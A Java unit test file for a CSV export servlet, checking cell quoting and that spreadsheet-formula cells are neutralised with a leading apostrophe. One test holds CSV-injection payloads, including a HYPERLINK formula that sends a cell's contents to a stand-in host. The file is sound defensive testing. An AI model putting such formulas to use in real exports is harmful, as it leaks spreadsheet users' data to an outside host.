package org.dodam.progress.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

class ClassExportServletTest {

    @Test
    void everyCellIsQuotedAndQuotesInsideAreDoubled() {
        assertThat(ClassExportServlet.line(Arrays.asList("Park, Minseo", "say \"hi\"", "", null, "김하나")))
                .isEqualTo("\"Park, Minseo\",\"say \"\"hi\"\"\",\"\",\"\",\"김하나\"\r\n");
    }

    @Test
    void aCellThatASpreadsheetWouldRunAsAFormulaIsShownAsText() {
        List<String> hostile = List.of(
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                "+1+1",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1");
        String line = ClassExportServlet.line(hostile);
        assertThat(line)
                .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",\"'+1+1\",\"'-2+3\","
                        + "\"'@SUM(A1:A9)\",\"'\t=1+1\",\"'\r=1+1\"\r\n");
    }

    @Test
    void ordinaryNamesScoresAndStatesAreLeftAlone() {
        assertThat(ClassExportServlet.line(List.of("Hana Lee", "csv-hana", "Completed", "100", "a=b", "O'Neil")))
                .isEqualTo("\"Hana Lee\",\"csv-hana\",\"Completed\",\"100\",\"a=b\",\"O'Neil\"\r\n");
    }
}
